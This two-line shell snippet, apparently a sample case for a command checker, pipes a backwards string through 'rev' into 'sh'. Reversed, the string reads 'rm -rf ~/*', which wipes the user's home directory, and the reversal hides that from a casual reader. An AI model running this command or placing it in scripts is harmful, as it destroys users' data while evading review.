# tricky: written backwards
echo '*/~ fr- mr' | rev | sh
